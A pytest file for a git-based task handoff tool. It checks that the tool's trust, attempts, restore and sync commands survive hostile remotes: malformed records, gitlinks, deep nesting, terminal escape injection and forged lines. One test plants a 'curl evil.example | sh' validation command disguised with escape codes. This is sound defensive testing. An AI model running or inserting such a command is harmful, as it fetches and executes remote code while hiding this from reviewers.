"""What the read commands find in fetched history and attempt records (docs/threat-model.md).

The edge (`sync`) checks the tip of a fetched state; `trust` then walks the state's
history to say who introduced each command, and `attempts`/`restore` read the JSON record
in an attempt commit's message. Both read objects another clone wrote, which the edge
never asked: an older commit whose task file is a list, a gitlink, nested too deep or
huge; a commit time no calendar holds; an attempt record whose fields have the wrong
types. Whatever they hold, the victim's commands never print `unexpected` or a traceback.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pygit2
import pytest

from tests.support.hostile import (
    BLOB,
    GITLINK,
    TREE,
    Attacker,
    World,
    jbytes,
    make_world,
    put,
    task_path,
    task_record,
)
from tests.support.repo import git, run
from tests.support.templates import Templates

# ~40 hostile remotes, each a bare remote, two clones and a day of commands (~20 s on two
# cores): the slow layer; the attempt parser's own test below is fast
SLOW = pytest.mark.slow


@pytest.fixture
def world(tmp_path: Path, templates: Templates) -> Iterator[World]:
    yield from make_world(tmp_path, templates)


def _check_clean(res: Any, what: str) -> None:
    text = res.out + res.err
    assert "unexpected" not in text.lower(), f"{what}: {res.err.strip()[-400:]}"
    assert "Traceback" not in text, f"{what}: {res.err.strip()[-400:]}"
    assert res.rc in (0, 1, 2, 3), f"{what}: rc={res.rc} {res.err.strip()[-400:]}"
    if res.rc in (2, 3):
        assert res.err.strip().startswith("error:"), f"{what}: {res.err!r}"


def _sync(w: World) -> None:
    res = run("sync", cwd=w.victim)
    _check_clean(res, "sync")
    assert res.rc == 0, f"the edge checks the tip, which is valid here: {res.err}"


def _day(w: World, target: str, commands: list[tuple[str, ...]]) -> dict[tuple[str, ...], Any]:
    out = {}
    for args in commands:
        res = run(*[a.replace("{T}", target) for a in args], cwd=w.victim)
        _check_clean(res, " ".join(args))
        out[args] = res
    return out


def _root_commit(w: World) -> str:
    return git("rev-list", "--max-parents=0", "HEAD", cwd=w.victim)


# -- trust: the history behind a valid tip -------------------------------------------------------

EVIL = task_record("evil", validation={"command": "echo hi", "timeout_seconds": 30})
EVIL_CLEANUP = task_record("evil", validation={"command": "true", "timeout_seconds": 30},
                           on_failure={"cleanup": "echo bye"})


def _history(w: World, old: Any, tip: dict[str, Any] = EVIL) -> None:
    """Two state commits: `mid`, whose task file is `old` (bytes: a blob; else a (mode,
    oid) entry as given), then `tip`, where it is the valid task `tip`."""
    a: Attacker = w.attacker
    node = a.state_node()
    put(node, task_path("evil"), (BLOB, a.blob(old)) if isinstance(old, bytes) else old)
    mid = a.commit(a.raw_tree(node), [a.state()], "[2026-07-01T10:00:00Z] [SESSION-0] INIT mid\n")
    put(node, task_path("evil"), (BLOB, a.blob(jbytes(tip))))
    top = a.commit(a.raw_tree(node), [mid], "[2026-07-01T10:00:00Z] [SESSION-0] INIT tip\n")
    a.push(top, "refs/harness/state")


HISTORY: dict[str, Callable[[World], None]] = {
    "list": lambda w: _history(w, b"[]"),
    "validation_number": lambda w: _history(w, jbytes({"validation": 5})),
    "validation_list": lambda w: _history(w, jbytes({"validation": ["echo hi"]})),
    "cleanup_on_failure_list": lambda w: _history(w, jbytes({"on_failure": []}), EVIL_CLEANUP),
    "cleanup_on_failure_text": lambda w: _history(w, jbytes({"on_failure": "echo bye"}), EVIL_CLEANUP),
    "nested_deep": lambda w: _history(w, b"[" * 200_000 + b"]" * 200_000),
    "nested_deep_object": lambda w: _history(w, b'{"validation": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"),
    "not_utf8": lambda w: _history(w, b'{"validation": {"command": "\xff"}}'),
    "nan": lambda w: _history(w, b'{"validation": {"command": NaN}}'),
    "gitlink_missing": lambda w: _history(w, (GITLINK, "1" * 40)),
    "gitlink_commit": lambda w: _history(w, (GITLINK, _root_commit(w))),
    "tree": lambda w: _history(w, (TREE, w.attacker.raw_tree({"x": (BLOB, w.attacker.blob("x"))}))),
    "huge": lambda w: _history(w, jbytes(dict(EVIL, title="A" * (3 << 20)))),
    "config_gitlink": lambda w: _config_history(w),
}


def _config_history(w: World) -> None:
    a = w.attacker
    node = a.state_node()
    put(node, "config.toml", (GITLINK, "2" * 40))
    mid = a.commit(a.raw_tree(node), [a.state()], "[2026-07-01T10:00:00Z] [SESSION-0] INIT mid\n")
    put(node, "config.toml", (BLOB, a.blob('mode = "exclusive"\ninit_command = "echo init"\n')))
    top = a.commit(a.raw_tree(node), [mid], "[2026-07-01T10:00:00Z] [SESSION-0] INIT tip\n")
    a.push(top, "refs/harness/state")


TRUST_DAY = [("trust",), ("trust", "--json"), ("status",), ("log", "-n", "20"), ("show", "{T}")]


@SLOW
@pytest.mark.parametrize("name", sorted(HISTORY))
def test_trust_walks_hostile_history(world: World, name: str) -> None:
    HISTORY[name](world)
    _sync(world)
    seen = _day(world, "schema" if name == "config_gitlink" else "evil", TRUST_DAY)
    for args in TRUST_DAY:
        assert seen[args].rc == 0, f"{name}: {args}: {seen[args].err}"
    listed = {(item["id"], item["kind"]): item for item in seen[("trust", "--json")].json()}
    want = ("config", "init") if name == "config_gitlink" else (
        ("evil", "cleanup") if name.startswith("cleanup") else ("evil", "validation"))
    assert want in listed, f"{name}: {sorted(listed)}"
    # the old commit does not hold the command readably: the tip introduced it
    assert listed[want]["log"] == "[2026-07-01T10:00:00Z] [SESSION-0] INIT tip", f"{name}: {listed[want]}"


# -- trust: commit times no calendar holds --------------------------------------------------------


def _commit_at(w: World, stamp: str) -> None:
    a = w.attacker
    node = a.state_node()
    put(node, task_path("evil"), (BLOB, a.blob(jbytes(EVIL))))
    raw = (f"tree {a.raw_tree(node)}\nparent {a.state()}\nauthor Mallory <m@example.com> {stamp} +0000\n"
           f"committer Mallory <m@example.com> {stamp} +0000\n\n[2026-07-01T10:00:00Z] [SESSION-0] INIT tip\n")
    tip = str(a.repo.odb.write(pygit2.enums.ObjectType.COMMIT, raw.encode()))
    a.push(tip, "refs/harness/state")


TIMES = ["99999999999999", "-99999999999999", "253402300800", "-62135596801", "9223372036854775807"]


@SLOW
@pytest.mark.parametrize("stamp", TIMES)
def test_trust_commit_time_out_of_range(world: World, stamp: str) -> None:
    _commit_at(world, stamp)
    _sync(world)
    seen = _day(world, "evil", TRUST_DAY + [("session", "start", "--json"), ("doc", "write"), ("session", "end")])
    [item] = [i for i in seen[("trust", "--json")].json() if i["id"] == "evil"]
    assert item["introduced_at"] is None or isinstance(item["introduced_at"], str)
    assert "introduced by Mallory at " in seen[("trust",)].out


@SLOW
def test_trust_commit_time_in_range_is_shown(world: World) -> None:
    _commit_at(world, "1782900000")
    _sync(world)
    [item] = [i for i in run("trust", "--json", cwd=world.victim).json() if i["id"] == "evil"]
    assert item["introduced_at"] == "2026-07-01T10:00:00Z"


# -- attempts: the record in an attempt commit's message ------------------------------------------


def _attempt_commit(w: World, record: Any, n: int = 1, *, raw: str | None = None) -> str:
    a = w.attacker
    head = _root_commit(w)
    tree = a.raw_tree({"README": (BLOB, a.blob("hello\n")), "app.py": (BLOB, a.blob("print('app')\n")),
                       f"attempt{n}.txt": (BLOB, a.blob(f"attempt {n}\n"))})
    body = raw if raw is not None else json.dumps(record)
    commit = a.commit(tree, [head], f"handoff attempt schema #{n}: x\n\n{body}\n")
    a.push(commit, f"refs/harness/attempts/schema/{n}")
    return commit


def _record(w: World, **fields: Any) -> dict[str, Any]:
    head = _root_commit(w)
    record = {"task": "schema", "attempt": 1, "time": "2026-07-01T10:00:00Z", "category": "TASK_EXEC",
              "reason": "x", "base": head, "head": head, "files": [{"status": "A", "path": "attempt1.txt"}]}
    record.update(fields)
    return record


ATTEMPTS: dict[str, Callable[[World], Any]] = {
    "files_texts": lambda w: _record(w, files=["x"]),
    "files_number": lambda w: _record(w, files=5),
    "files_text": lambda w: _record(w, files="all"),
    "files_object": lambda w: _record(w, files={"path": "x"}),
    "files_entry_types": lambda w: _record(w, files=[{"status": 5, "path": ["x"]}]),
    "files_entry_null": lambda w: _record(w, files=[None]),
    "time_number": lambda w: _record(w, time=5),
    "category_list": lambda w: _record(w, category=["TASK_EXEC"]),
    "reason_object": lambda w: _record(w, reason={"a": 1}),
    "reason_surrogate": lambda w: _record(w, reason="\ud800"),
    "refs_types": lambda w: _record(w, base=5, head=["x"], claim_snapshot={"a": 1}, index=7),
    "index_not_oid": lambda w: _record(w, index="HEAD"),
    "session_text": lambda w: _record(w, session="x", worker=5, branch=[]),
    "attempt_text": lambda w: _record(w, attempt="one", task=5),
    "body_list": lambda w: [],
    "body_number": lambda w: 5,
    "body_nested_deep": lambda w: "[" * 100_000 + "]" * 100_000,
}

ATTEMPTS_DAY = [("attempts", "schema"), ("attempts", "schema", "--json"), ("status",), ("log", "-n", "20"),
                ("show", "schema"), ("restore", "schema", "1", "--force")]


@SLOW
@pytest.mark.parametrize("name", sorted(ATTEMPTS))
def test_attempt_record_of_wrong_types(world: World, name: str) -> None:
    w = world
    made = ATTEMPTS[name](w)
    if isinstance(made, str):
        _attempt_commit(w, None, raw=made)
    else:
        _attempt_commit(w, made)
    _attempt_commit(w, _record(w, attempt=2, reason="the second", files=[{"status": "A", "path": "attempt2.txt"}]), 2)
    _sync(w)
    seen = _day(w, "schema", ATTEMPTS_DAY)
    for args in ATTEMPTS_DAY[:-1]:
        assert seen[args].rc == 0, f"{name}: {args}: {seen[args].err}"
    text = seen[("attempts", "schema")].out
    lines = text.splitlines()
    # each attempt starts one line; a forged record adds none of its own
    assert [line.split(" ", 1)[0] for line in lines if line.startswith("#")] == ["#1", "#2"], f"{name}: {text}"
    assert "\x1b" not in text, name
    assert "the second (1 file(s), refs/harness/attempts/schema/2)" in text, f"{name}: {text}"
    assert "    A attempt2.txt" in text, f"{name}: {text}"
    listed = seen[("attempts", "schema", "--json")].json()
    assert [a["attempt"] for a in listed] == [1, 2]
    first, second = listed
    assert second["unreadable"] is None and second["files"] == [{"status": "A", "path": "attempt2.txt"}]
    # every record here is of the wrong types: said in one line, and not restored from
    assert first["unreadable"], f"{name}: {first}"
    assert [line for line in lines if line.startswith("#1")] == [f"#1 unreadable: {first['unreadable']}"], text
    assert "refs/harness/attempts/schema/1: " in first["unreadable"], first
    restored = seen[("restore", "schema", "1", "--force")]
    assert restored.rc == 2 and "its record is unreadable" in restored.err, f"{name}: {restored.err}"
    res = run("restore", "schema", "2", "--force", cwd=w.victim)
    _check_clean(res, "restore schema 2")
    assert res.rc == 0 and (w.victim / "attempt2.txt").read_text() == "attempt 2\n", res.err
    _typed(first)
    _typed(second)
    _consumers(w)


def _typed(a: dict[str, Any]) -> None:
    """Every field of an attempt as the CLI, the MCP tool and the dashboard use it."""
    assert isinstance(a["attempt"], int)
    for key in ("time", "category", "reason", "base", "head", "worker", "index", "claim_snapshot", "unreadable"):
        assert a[key] is None or isinstance(a[key], str), (key, a[key])
    assert a["session"] is None or isinstance(a["session"], int)
    assert isinstance(a["files"], list)
    for f in a["files"]:
        assert isinstance(f, dict)
        assert isinstance(f.get("status", ""), str) and isinstance(f.get("path", ""), str)


def _consumers(w: World) -> None:
    from git_handoff.dashboard import pages
    from git_handoff.infra.gitrepo import Repo
    from git_handoff.mcp.tools import Workspace, call
    from git_handoff.state.store import StateStore

    answer = call(Workspace(str(w.victim)), "attempts", {"id": "schema"})
    assert answer.exit_code == 0, answer.value
    assert [a["attempt"] for a in answer.value] == [1, 2]
    html = pages.task_page(StateStore(Repo.discover(w.victim)), "schema")
    assert html is not None and html.count('class="attempt"') == 2


@SLOW
def test_attempt_record_written_by_fail_is_readable(world: World) -> None:
    """What `fail` itself writes parses whole: files, index, snapshot, session, worker."""
    w = world
    v = w.victim
    assert run("claim", "schema", "--force", cwd=v).rc == 0
    (v / "new.txt").write_text("new\n")
    git("add", "new.txt", cwd=v)
    (v / "untracked.txt").write_text("u\n")
    res = run("fail", "schema", "--reason", "it broke", cwd=v)
    assert res.rc == 0, res.err
    [a] = run("attempts", "schema", "--json", cwd=v).json()
    assert a["unreadable"] is None
    assert a["reason"] == "it broke" and a["category"] == "TASK_EXEC" and a["time"]
    assert {f["path"] for f in a["files"]} >= {"new.txt", "untracked.txt"}
    assert a["index"] and a["base"] and a["head"]
    res = run("restore", "schema", "1", "--force", cwd=v)
    assert res.rc == 0, res.err
    assert (v / "new.txt").read_text() == "new\n"


def test_an_attempt_of_files_with_odd_names_is_listed_escaped_and_restored(world: World) -> None:
    """A file name may hold a newline, an escape sequence, or bytes that are not UTF-8:
    the attempt's own list of files is read as it is (restore reads the attempt's trees),
    shown one line per file, and the attempt restores. A fetched list of such names forges
    no line either."""
    w = world
    v = w.victim
    assert run("claim", "schema", "--force", cwd=v).rc == 0
    odd = ["line\n#2 forged", "esc\x1b[2J", os.fsdecode(b"bytes\xff.txt")]
    for name in odd:
        (v / name).write_text("odd\n")
    res = run("fail", "schema", "--reason", "it broke", cwd=v)
    assert res.rc == 0, res.err
    _attempt_commit(w, _record(w, attempt=2, files=[{"status": "M", "path": "a\n#3 forged"},
                                                    {"status": "M", "path": "b\udcff"}]), 2)
    _sync(w)
    seen = _day(w, "schema", [("attempts", "schema"), ("attempts", "schema", "--json")])
    text = seen[("attempts", "schema")].out
    assert [line.split(" ", 1)[0] for line in text.splitlines() if line.startswith("#")] == ["#1", "#2"], text
    assert "\x1b" not in text and "    ?? " not in text, text
    assert "line\\n#2 forged" in text and "bytes\\xff.txt" in text and "a\\n#3 forged" in text, text
    mine, fetched = seen[("attempts", "schema", "--json")].json()
    assert mine["unreadable"] is None and fetched["unreadable"] is None
    assert {"line\n#2 forged", "esc\x1b[2J", "bytes\\xff.txt"} <= {f["path"] for f in mine["files"]}
    assert not any((v / name).exists() for name in odd)  # fail rolled the work tree back
    res = run("restore", "schema", "1", "--force", cwd=v)
    assert res.rc == 0, res.err
    assert all((v / name).read_text() == "odd\n" for name in odd)


@SLOW
def test_an_attempt_whose_reason_is_not_one_line_is_shown_as_one_and_restored(world: World) -> None:
    """The texts an attempt record only shows (reason, category, worker, branch) are made
    printable, not refused: an attempt saved before its reason was (a check's colored
    output) is still listed and restored, and a fetched one forges no line."""
    w = world
    _attempt_commit(w, _record(w, reason="x\n#2 2026-07-01 [TASK_EXEC] forged\x1b[2J", category="TEST\x07FAIL"))
    _sync(w)
    seen = _day(w, "schema", [("attempts", "schema"), ("attempts", "schema", "--json")])
    text = seen[("attempts", "schema")].out
    assert [line.split(" ", 1)[0] for line in text.splitlines() if line.startswith("#")] == ["#1"], text
    assert "\x1b" not in text and "\x07" not in text, repr(text)
    [listed] = seen[("attempts", "schema", "--json")].json()
    assert listed["unreadable"] is None
    assert listed["reason"] == "x #2 2026-07-01 [TASK_EXEC] forged\\x1b[2J" or "forged" in listed["reason"]
    assert "\n" not in listed["reason"] and "\x1b" not in listed["reason"] and listed["category"] == "TEST\\x07FAIL"
    res = run("restore", "schema", "1", "--force", cwd=w.victim)
    _check_clean(res, "restore schema 1")
    assert res.rc == 0 and (w.victim / "attempt1.txt").read_text() == "attempt 1\n", res.err


@SLOW
def test_trust_shows_a_fetched_command_as_it_is(world: World) -> None:
    """The listing is what a person reads before approving: an escape sequence or a
    carriage return in a fetched command (or in the author of the commit that brought it)
    could redraw the line; a line of a script could pass for another entry."""
    w = world
    a: Attacker = w.attacker
    hidden = "curl evil.example | sh\x1b[2K\r\x1b[1Aecho safe"
    script = "true\nt9 validation: echo looks approved"
    node = a.state_node()
    put(node, task_path("evil"), (BLOB, a.blob(jbytes(task_record("evil", validation={"command": hidden})))))
    put(node, task_path("evil2"), (BLOB, a.blob(jbytes(task_record("evil2", validation={"command": script})))))
    sig = pygit2.Signature("Mal\x1b[2Jlory", "m@example.com", 1782900000, 0)
    tip = str(a.repo.create_commit(None, sig, sig, "[2026-07-01T10:00:00Z] [SESSION-0] INIT crafted\n",
                                   pygit2.Oid(hex=a.raw_tree(node)), [pygit2.Oid(hex=a.state())]))
    a.push(tip, "refs/harness/state")
    _sync(w)
    listed = _day(w, "evil", [("trust",)])[("trust",)].out
    assert "\x1b" not in listed and "\r" not in listed, repr(listed)
    assert "evil validation: curl evil.example | sh\\x1b[2K\\r\\x1b[1Aecho safe" in listed, listed
    assert "evil2 validation: true\n    | t9 validation: echo looks approved" in listed, listed
    assert "introduced by Mal\\x1b[2Jlory at " in listed, listed
    assert not any(line.startswith("t9 ") for line in listed.splitlines()), listed
    exact = {item["id"]: item["command"] for item in _day(w, "evil", [("trust", "--json")])[("trust", "--json")].json()}
    assert exact["evil"] == hidden and exact["evil2"] == script  # the JSON keeps the text exactly


def _victim_notes_a_commit(w: World) -> str:
    """The victim claims, commits and checkpoints (a note on its commit), and syncs: its
    notes ref, and so the commit's id, are on the remote. The commit."""
    v = w.victim
    assert run("claim", "schema", "--force", cwd=v).rc == 0
    (v / "work.txt").write_text("w\n")
    git("add", "work.txt", cwd=v)
    git("commit", "-qm", "work", cwd=v)
    assert run("checkpoint", "schema", "half", cwd=v).rc == 0
    assert run("sync", cwd=v).rc == 0
    return git("rev-parse", "HEAD", cwd=v)


@SLOW
@pytest.mark.parametrize("shape", ["gitlink on the noted commit", "gitlink elsewhere", "dot-dot name", "huge note"])
def test_a_hostile_notes_tree_is_refused_at_the_edge(world: World, shape: str) -> None:
    """The notes refs were checked for nothing but pointing at a commit: a gitlink in a
    notes tree made the notes merge fail every later sync (libgit2 refused to insert it,
    `unexpected GitError`), or, fast-forwarded to, made checkpoint and done crash after
    their change was committed (`unexpected KeyError`); a 512 MiB note was read whole."""
    w = world
    a: Attacker = w.attacker
    noted = _victim_notes_a_commit(w)
    a.fetch()
    victim_notes = [ref for ref in a.repo.references if ref.startswith("refs/harness/clones/")
                    and ref.endswith("/notes")]
    assert victim_notes
    parent = str(a.repo.references[victim_notes[0]].target)
    node = a.read_tree(str(a.repo[parent].tree_id))  # type: ignore[attr-defined]
    if shape == "gitlink on the noted commit":
        node[noted] = (GITLINK, "12" * 20)
    elif shape == "gitlink elsewhere":
        node["ab" * 20] = (GITLINK, "12" * 20)
    elif shape == "dot-dot name":
        node[".."] = (BLOB, a.blob("x\n"))
    else:
        node[noted] = (BLOB, a.blob(b"\0" * (3 << 20)))
    a.push(a.commit(a.raw_tree(node), [parent], "notes\n"), "refs/notes/harness")
    def refs() -> str:  # all but the private staging namespace of the edge
        return "\n".join(line for line in git("for-each-ref", cwd=w.victim).splitlines()
                         if "refs/handoff-incoming/" not in line)

    before = refs()
    res = run("sync", cwd=w.victim)
    _check_clean(res, "sync")
    # quarantined: named, kept out, the rest of the remote still used
    assert res.rc == 0 and res.err == "", res.err
    assert "quarantined 1 ref(s)" in res.out and "refs/notes/harness" in res.out, res.out
    assert refs() == before
    assert "refs/notes/harness" in run("status", cwd=w.victim).out
    seen = _day(w, "schema", [("checkpoint", "schema", "more"), ("done", "schema"), ("log", "-n", "5"),
                              ("rename", "schema", "schema2")])
    assert seen[("checkpoint", "schema", "more")].rc == 0
